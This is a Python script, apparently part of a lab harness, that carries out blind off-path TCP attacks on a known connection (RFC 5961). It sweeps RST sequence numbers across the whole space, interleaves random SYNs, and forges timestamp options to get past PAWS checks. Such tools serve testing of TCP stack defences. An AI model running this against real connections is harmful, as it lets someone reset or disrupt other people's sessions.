#!/usr/bin/env python3
"""blind.py - blind in-window attacks (RFC 5961) on a connection whose 4-tuple is known.

Usage: blind.py SRC SPORT DST DPORT [--count N] [--rate PPS]

Runs in the client namespace as root and sends, from SRC:SPORT to DST:DPORT
(the real client's tuple, so only the sequence numbers are unknown), N
segments alternating between
  RST  with SEG.SEQ stepping through the whole 2^32 space in N/2 equal steps
       (an off-path attacker's sweep: some land inside the receive window);
  SYN  with a random SEG.SEQ;
at PPS segments per second (tools/rawtcp.py). Every segment carries a
timestamp option with a random TSval (RFC 7323 §3.2: once timestamps are
negotiated, a segment without one is dropped before any other check, so an
attacker includes one; about half of random TSvals pass PAWS). --no-ts sends
none. Prints one JSON line:
{"sent", "rst", "syn", "seconds"}.
"""
import argparse
import json
import os
import random
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rawtcp  # noqa: E402
from rawtcp import RST, SYN  # noqa: E402


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("sport", type=int)
    ap.add_argument("dst")
    ap.add_argument("dport", type=int)
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--rate", type=float, default=5000)
    ap.add_argument("--no-ts", action="store_true")
    a = ap.parse_args()
    raw = rawtcp.Raw(a.src, a.dst)
    n_rst = (a.count + 1) // 2
    step = (1 << 32) // n_rst
    base = random.getrandbits(32)
    sent = rst = syn = 0
    t0 = time.monotonic()
    for k in range(a.count):
        opts = b"" if a.no_ts else struct.pack("!BBBBII", 1, 1, 8, 10, random.getrandbits(32), 0)
        if k % 2 == 0:
            raw.send(a.sport, a.dport, base + (k // 2) * step, 0, RST, win=0, opts=opts)
            rst += 1
        else:
            raw.send(a.sport, a.dport, random.getrandbits(32), 0, SYN, opts=opts)
            syn += 1
        sent += 1
        delay = t0 + sent / a.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(json.dumps({"sent": sent, "rst": rst, "syn": syn,
                      "seconds": round(time.monotonic() - t0, 2)}), flush=True)


if __name__ == "__main__":
    main()
